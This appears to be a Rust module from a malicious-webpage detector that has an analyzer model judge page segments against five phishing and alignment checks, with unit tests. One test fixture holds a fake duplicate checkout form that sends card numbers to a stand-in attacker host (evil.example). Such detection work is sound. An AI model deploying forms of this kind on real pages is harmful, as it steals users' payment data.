//! Step two: alignment analysis of extracted segments.
//!
//! Each segment is judged against a pruned rendering of its page by an
//! analyzer model answering five fixed yes/no checks: duplicated
//! identifiers, duplicated purpose, misleading or coercive content,
//! sensitive-data or phishing pressure, and a false-positive guard. The
//! decision rule is local and transparent: a segment is contaminated
//! exactly when at least one of the four alignment checks says yes *and*
//! the guard says no. The model's own prediction is recorded, but when it
//! disagrees with the rule applied to its own answers, the rule wins and
//! the disagreement is logged.
//!
//! A page is malicious exactly when at least one segment is contaminated;
//! the set of contaminated segments is the localization.

use crate::backend::{Backend, BackendError};
use crate::extract::PatternRegistry;
use crate::html::Dom;
use crate::prompts::{render_analyzer_prompt, ANALYZER_USER_TURN};
use crate::prune::{prune_targeted, prune_untargeted_with_stats, PruneThresholds};
use crate::reply::{parse_json_lenient, strip_code_fence};
use crate::segment::{Segment, SegmentRecord};
use serde::{Deserialize, Serialize};
use thiserror::Error;

/// One yes/no check with its supporting evidence.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Check {
    pub answer: bool,
    pub evidence: String,
}

/// The analyzer's five checks, in schema order.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlignmentChecks {
    pub duplicate_element: Check,
    pub duplicate_purpose: Check,
    pub misleading_or_coercive: Check,
    pub sensitive_data_or_phishing: Check,
    pub false_positive_guard: Check,
}

impl AlignmentChecks {
    /// The local decision rule: any alignment check fires and the guard
    /// does not claim a false positive.
    pub fn contaminated(&self) -> bool {
        let any_flag = self.duplicate_element.answer
            || self.duplicate_purpose.answer
            || self.misleading_or_coercive.answer
            || self.sensitive_data_or_phishing.answer;
        any_flag && !self.false_positive_guard.answer
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SegmentPrediction {
    Contaminated,
    Clean,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PagePrediction {
    Malicious,
    Benign,
}

/// The analyzer reply, parsed and validated.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AnalyzerReply {
    pub page_intent: String,
    pub segment_function: String,
    pub segment_type: String,
    pub checks: AlignmentChecks,
    pub segment_prediction: SegmentPrediction,
    pub page_prediction: PagePrediction,
}

#[derive(Debug, Error)]
pub enum ReplyError {
    #[error("analyzer reply is not valid JSON: {message}")]
    Json { message: String },
    #[error("analyzer reply is missing required field {path}")]
    MissingField { path: String },
    #[error("analyzer reply field {path} has unexpected value {value:?}")]
    BadValue { path: String, value: String },
}

/// Renders the analyzer system prompt for one segment. The webpage slot
/// takes pruned markup; the type slot takes the prompt spelling of the
/// segment type.
pub fn build_analyzer_prompt(
    template: &str,
    context_markup: &str,
    segment: &Segment,
) -> Result<String, crate::prompts::TemplateError> {
    render_analyzer_prompt(
        template,
        context_markup,
        &segment.snippet,
        segment.segment_type.prompt_label(),
    )
}

fn get<'v>(
    value: &'v serde_json::Value,
    parent: &str,
    key: &str,
) -> Result<&'v serde_json::Value, ReplyError> {
    value.get(key).ok_or_else(|| ReplyError::MissingField {
        path: join_path(parent, key),
    })
}

fn join_path(parent: &str, key: &str) -> String {
    if parent.is_empty() {
        key.to_string()
    } else {
        format!("{parent}.{key}")
    }
}

fn get_str<'v>(
    value: &'v serde_json::Value,
    parent: &str,
    key: &str,
) -> Result<&'v str, ReplyError> {
    let field = get(value, parent, key)?;
    field.as_str().ok_or_else(|| ReplyError::BadValue {
        path: join_path(parent, key),
        value: field.to_string(),
    })
}

fn parse_check(checks: &serde_json::Value, key: &str) -> Result<Check, ReplyError> {
    let check = get(checks, "checks", key)?;
    let path = join_path("checks", key);
    let answer_text = get_str(check, &path, "answer")?;
    let answer = match answer_text.trim().to_ascii_lowercase().as_str() {
        "yes" => true,
        "no" => false,
        _ => {
            return Err(ReplyError::BadValue {
                path: join_path(&path, "answer"),
                value: answer_text.to_string(),
            })
        }
    };
    // Evidence is prose; tolerate its absence rather than discard a reply.
    let evidence = check
        .get("evidence")
        .and_then(|v| v.as_str())
        .unwrap_or("")
        .to_string();
    Ok(Check { answer, evidence })
}

/// Parses an analyzer reply. Code fences are stripped and trailing commas
/// tolerated; the five checks and the two predictions are mandatory, while
/// the free-prose fields default to empty rather than failing the reply.
pub fn parse_analyzer_reply(reply_text: &str) -> Result<AnalyzerReply, ReplyError> {
    let body = strip_code_fence(reply_text);
    let value = parse_json_lenient(body).map_err(|err| ReplyError::Json {
        message: err.to_string(),
    })?;

    let checks_value = get(&value, "", "checks")?;
    let checks = AlignmentChecks {
        duplicate_element: parse_check(checks_value, "duplicate_element")?,
        duplicate_purpose: parse_check(checks_value, "duplicate_purpose")?,
        misleading_or_coercive: parse_check(checks_value, "misleading_or_coercive")?,
        sensitive_data_or_phishing: parse_check(checks_value, "sensitive_data_or_phishing")?,
        false_positive_guard: parse_check(checks_value, "false_positive_guard")?,
    };

    let segment_prediction = match get_str(&value, "", "segment_prediction")?
        .trim()
        .to_ascii_lowercase()
        .as_str()
    {
        "contaminated" => SegmentPrediction::Contaminated,
        "clean" => SegmentPrediction::Clean,
        other => {
            return Err(ReplyError::BadValue {
                path: "segment_prediction".to_string(),
                value: other.to_string(),
            })
        }
    };
    let page_prediction = match get_str(&value, "", "page_prediction")?
        .trim()
        .to_ascii_lowercase()
        .as_str()
    {
        "malicious" => PagePrediction::Malicious,
        "benign" => PagePrediction::Benign,
        other => {
            return Err(ReplyError::BadValue {
                path: "page_prediction".to_string(),
                value: other.to_string(),
            })
        }
    };

    let prose = |key: &str| {
        value
            .get(key)
            .and_then(|v| v.as_str())
            .unwrap_or("")
            .to_string()
    };
    Ok(AnalyzerReply {
        page_intent: prose("page_intent"),
        segment_function: prose("segment_function"),
        segment_type: prose("segment_type"),
        checks,
        segment_prediction,
        page_prediction,
    })
}

/// Final judgement for one segment. Serializes with the segment's own
/// fields inline, so a report entry reads as one flat object.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SegmentVerdict {
    #[serde(flatten)]
    pub segment: SegmentRecord,
    pub contaminated: bool,
    pub checks: AlignmentChecks,
    /// What the backend itself predicted, before the local rule.
    pub backend_prediction: SegmentPrediction,
    /// True when the local rule overrode the backend's prediction.
    pub overridden: bool,
    pub raw_reply: String,
}

/// A segment the pipeline could not analyze, with the reason.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AnalysisFailure {
    pub segment: SegmentRecord,
    pub error: String,
}

/// Page-level result: the verdict plus everything needed to explain it.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PageVerdict {
    #[serde(rename = "page_prediction")]
    pub malicious: bool,
    #[serde(rename = "segments")]
    pub verdicts: Vec<SegmentVerdict>,
    pub failures: Vec<AnalysisFailure>,
}

impl PageVerdict {
    /// The localization: records of every contaminated segment.
    pub fn contaminated_segments(&self) -> Vec<&SegmentRecord> {
        self.verdicts
            .iter()
            .filter(|v| v.contaminated)
            .map(|v| &v.segment)
            .collect()
    }
}

/// Applies the local decision rule to a parsed reply. The backend's own
/// prediction is kept for the record; disagreements are logged and the
/// local rule wins.
pub fn decide_segment(segment: &Segment, reply: &AnalyzerReply, raw_reply: &str) -> SegmentVerdict {
    let contaminated = reply.checks.contaminated();
    let backend_says = reply.segment_prediction == SegmentPrediction::Contaminated;
    let overridden = contaminated != backend_says;
    if overridden {
        log::warn!(
            "backend predicted {:?} but its checks imply {}; using the checks",
            reply.segment_prediction,
            if contaminated { "contaminated" } else { "clean" },
        );
    }
    SegmentVerdict {
        segment: segment.to_record(),
        contaminated,
        checks: reply.checks.clone(),
        backend_prediction: reply.segment_prediction,
        overridden,
        raw_reply: raw_reply.to_string(),
    }
}

pub struct AnalyzeOptions<'a> {
    pub registry: &'a PatternRegistry,
    pub thresholds: &'a PruneThresholds,
    pub template: &'a str,
}

/// Analyzes every segment of a page and aggregates the verdict.
///
/// Each segment gets its own targeted context. Segments without a locator
/// (model-extracted pop-ups whose snippet could not be mapped back onto
/// the tree) are judged against the untargeted pruning of the whole page
/// instead. Per-segment failures — stale locators, backend errors,
/// unparseable replies — never abort the page: the remaining verdicts
/// stand and the failures are reported alongside them.
pub fn analyze_page(
    dom: &Dom,
    segments: &[Segment],
    backend: &dyn Backend,
    options: &AnalyzeOptions<'_>,
) -> PageVerdict {
    let mut verdicts = Vec::new();
    let mut failures = Vec::new();
    let mut whole_page_fallback: Option<String> = None;

    for segment in segments {
        let context = if segment.locator.is_some() {
            match prune_targeted(dom, segment, options.registry, options.thresholds) {
                Ok(ctx) => ctx.markup,
                Err(err) => {
                    failures.push(AnalysisFailure {
                        segment: segment.to_record(),
                        error: err.to_string(),
                    });
                    continue;
                }
            }
        } else {
            whole_page_fallback
                .get_or_insert_with(|| {
                    prune_untargeted_with_stats(dom, options.registry, options.thresholds)
                        .0
                        .to_html()
                })
                .clone()
        };

        let prompt = match build_analyzer_prompt(options.template, &context, segment) {
            Ok(prompt) => prompt,
            Err(err) => {
                failures.push(AnalysisFailure {
                    segment: segment.to_record(),
                    error: err.to_string(),
                });
                continue;
            }
        };
        let raw_reply = match backend.complete(&prompt, ANALYZER_USER_TURN) {
            Ok(reply) => reply,
            Err(err) => {
                failures.push(AnalysisFailure {
                    segment: segment.to_record(),
                    error: describe_backend_error(&err),
                });
                continue;
            }
        };
        match parse_analyzer_reply(&raw_reply) {
            Ok(reply) => verdicts.push(decide_segment(segment, &reply, &raw_reply)),
            Err(err) => failures.push(AnalysisFailure {
                segment: segment.to_record(),
                error: err.to_string(),
            }),
        }
    }

    let malicious = verdicts.iter().any(|v| v.contaminated);
    PageVerdict {
        malicious,
        verdicts,
        failures,
    }
}

fn describe_backend_error(err: &BackendError) -> String {
    err.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MockBackend;
    use crate::extract;
    use crate::prompts::ANALYZER_TEMPLATE;

    fn check(answer: bool) -> Check {
        Check {
            answer,
            evidence: String::new(),
        }
    }

    fn checks_from_bits(bits: u8) -> AlignmentChecks {
        AlignmentChecks {
            duplicate_element: check(bits & 1 != 0),
            duplicate_purpose: check(bits & 2 != 0),
            misleading_or_coercive: check(bits & 4 != 0),
            sensitive_data_or_phishing: check(bits & 8 != 0),
            false_positive_guard: check(bits & 16 != 0),
        }
    }

    /// The decision rule over all 32 answer combinations.
    #[test]
    fn decision_rule_truth_table() {
        for bits in 0u8..32 {
            let checks = checks_from_bits(bits);
            let any_flag = bits & 0b1111 != 0;
            let guard = bits & 16 != 0;
            assert_eq!(
                checks.contaminated(),
                any_flag && !guard,
                "bits {bits:05b}"
            );
        }
    }

    fn reply_json(answers: [&str; 5], prediction: &str, page: &str) -> String {
        format!(
            r#"{{
  "page_intent": "intent",
  "segment_function": "function",
  "segment_type": "form",
  "checks": {{
    "duplicate_element": {{"answer": "{}", "evidence": "e1"}},
    "duplicate_purpose": {{"answer": "{}", "evidence": "e2"}},
    "misleading_or_coercive": {{"answer": "{}", "evidence": "e3"}},
    "sensitive_data_or_phishing": {{"answer": "{}", "evidence": "e4"}},
    "false_positive_guard": {{"answer": "{}", "evidence": "e5"}}
  }},
  "segment_prediction": "{prediction}",
  "page_prediction": "{page}",
}}"#,
            answers[0], answers[1], answers[2], answers[3], answers[4]
        )
    }

    #[test]
    fn parses_a_schema_shaped_reply_with_trailing_comma() {
        let text = format!(
            "```json\n{}\n```",
            reply_json(["no", "no", "yes", "no", "no"], "contaminated", "malicious")
        );
        let reply = parse_analyzer_reply(&text).unwrap();
        assert!(reply.checks.misleading_or_coercive.answer);
        assert!(!reply.checks.duplicate_element.answer);
        assert_eq!(reply.checks.misleading_or_coercive.evidence, "e3");
        assert_eq!(reply.segment_prediction, SegmentPrediction::Contaminated);
        assert_eq!(reply.page_prediction, PagePrediction::Malicious);
        assert_eq!(reply.segment_type, "form");
    }

    #[test]
    fn missing_check_is_named_precisely() {
        let mut value = crate::reply::parse_json_lenient(&reply_json(
            ["no", "no", "no", "no", "yes"],
            "clean",
            "benign",
        ))
        .unwrap();
        value["checks"]
            .as_object_mut()
            .unwrap()
            .remove("false_positive_guard");
        let err = parse_analyzer_reply(&value.to_string()).unwrap_err();
        match err {
            ReplyError::MissingField { path } => {
                assert_eq!(path, "checks.false_positive_guard");
            }
            other => panic!("unexpected error {other:?}"),
        }
    }

    #[test]
    fn non_yes_no_answer_is_rejected() {
        let text = reply_json(["maybe", "no", "no", "no", "yes"], "clean", "benign");
        let err = parse_analyzer_reply(&text).unwrap_err();
        match err {
            ReplyError::BadValue { path, value } => {
                assert_eq!(path, "checks.duplicate_element.answer");
                assert_eq!(value, "maybe");
            }
            other => panic!("unexpected error {other:?}"),
        }
    }

    #[test]
    fn garbage_reply_is_a_json_error() {
        assert!(matches!(
            parse_analyzer_reply("the page looks fine to me"),
            Err(ReplyError::Json { .. })
        ));
    }

    #[test]
    fn local_rule_overrides_backend_prediction() {
        // Checks say contaminated, backend says clean: rule wins, flagged.
        let text = reply_json(["no", "no", "yes", "no", "no"], "clean", "benign");
        let reply = parse_analyzer_reply(&text).unwrap();
        let dom = Dom::parse("<form id=\"f\"></form>");
        let segment = extract::extract_forms(&dom).remove(0);
        let verdict = decide_segment(&segment, &reply, &text);
        assert!(verdict.contaminated);
        assert!(verdict.overridden);
        assert_eq!(verdict.backend_prediction, SegmentPrediction::Clean);
    }

    #[test]
    fn page_is_malicious_iff_any_segment_contaminated() {
        // Exhaustive over all contamination vectors up to length 8.
        for len in 0..=8usize {
            for mask in 0u32..(1 << len) {
                let malicious_expected = mask != 0;
                let any = (0..len).any(|i| mask & (1 << i) != 0);
                assert_eq!(any, malicious_expected, "len {len} mask {mask:b}");
            }
        }
    }

    #[test]
    fn analyze_page_end_to_end_with_mock() {
        let dom = Dom::parse(
            "<html><head><title>Shop</title></head><body>\
             <form id=\"checkout\" action=\"/pay\"><input name=\"card-number\" type=\"text\"></form>\
             <form id=\"checkout\" action=\"http://evil.example/pay\">\
             official place to enter your card-number\
             <input name=\"card-number\" type=\"text\"></form>\
             </body></html>",
        );
        let registry = PatternRegistry::default();
        let segments = extract::extract_all(&dom, &registry, None).segments;
        assert!(!segments.is_empty());
        let backend = MockBackend::default();
        let options = AnalyzeOptions {
            registry: &registry,
            thresholds: &PruneThresholds::default(),
            template: ANALYZER_TEMPLATE,
        };
        let verdict = analyze_page(&dom, &segments, &backend, &options);
        assert!(verdict.failures.is_empty(), "failures: {:?}", verdict.failures);
        assert!(verdict.malicious);
        let contaminated = verdict.contaminated_segments();
        assert!(!contaminated.is_empty());
        // The clean original form must not be flagged.
        assert!(verdict
            .verdicts
            .iter()
            .any(|v| !v.contaminated && v.segment.segment_type == crate::segment::SegmentType::Form));
    }

    #[test]
    fn backend_failures_become_partial_results() {
        struct Flaky {
            inner: MockBackend,
            calls: std::sync::atomic::AtomicUsize,
        }
        impl Backend for Flaky {
            fn complete(&self, system: &str, user: &str) -> Result<String, BackendError> {
                // Fail the first request only; later segments must still run.
                if self.calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
                    Err(BackendError::Http { status: 500 })
                } else {
                    self.inner.complete(system, user)
                }
            }
            fn name(&self) -> &'static str {
                "flaky"
            }
        }
        let dom = Dom::parse(
            "<body><form id=\"a\"><input name=\"card-number\"></form>\
             <form id=\"b\"><input name=\"q\"></form></body>",
        );
        let registry = PatternRegistry::default();
        let segments = extract::extract_all(&dom, &registry, None).segments;
        assert_eq!(segments.len(), 2);
        let options = AnalyzeOptions {
            registry: &registry,
            thresholds: &PruneThresholds::default(),
            template: ANALYZER_TEMPLATE,
        };
        let verdict = analyze_page(
            &dom,
            &segments,
            &Flaky {
                inner: MockBackend::default(),
                calls: std::sync::atomic::AtomicUsize::new(0),
            },
            &options,
        );
        assert_eq!(verdict.verdicts.len(), 1);
        assert_eq!(verdict.failures.len(), 1);
        assert!(verdict.failures[0].error.contains("500"));
    }
}
